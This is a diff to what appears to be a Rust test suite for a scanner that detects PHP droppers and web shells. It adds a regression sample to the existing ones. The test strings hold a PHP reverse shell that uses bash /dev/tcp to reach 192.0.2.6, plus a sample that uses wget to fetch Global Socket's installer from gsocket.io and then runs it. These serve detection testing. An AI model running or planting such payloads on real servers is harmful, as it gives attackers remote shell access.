@@ -537,6 +537,11 @@ fn droppers_are_found() {
     let back = "<?php exec('/bin/bash -c \"bash -i >& /dev/tcp/192.0.2.6/1234 0>&1\"'); ?>";
     assert_eq!(found(back), [Why::RemoteShell]);
     assert!(super::may_match(back.as_bytes()));
+    // Regression: fresh160's `run_gsocket.php` fetches and runs Global Socket's installer.
+    let gsocket = "<?php $dst = __DIR__ . '/tmp/g.sh'; shell_exec('/bin/wget -O ' . escapeshellarg($dst) . ' https://gsocket.io/y 2>&1');\n\
+                   chmod($dst, 0700); echo shell_exec('sh ' . escapeshellarg($dst));";
+    assert_eq!(found(gsocket), [Why::RemoteShell]);
+    assert!(super::may_match(gsocket.as_bytes()));
     // A port checked with bash's `/dev/tcp` starts no shell for anyone.
     let probe = "<?php exec('timeout 1 bash -c \"echo > /dev/tcp/127.0.0.1/3306\" && echo open', $out);";
     assert!(found(probe).is_empty(), "{:?}", found(probe));
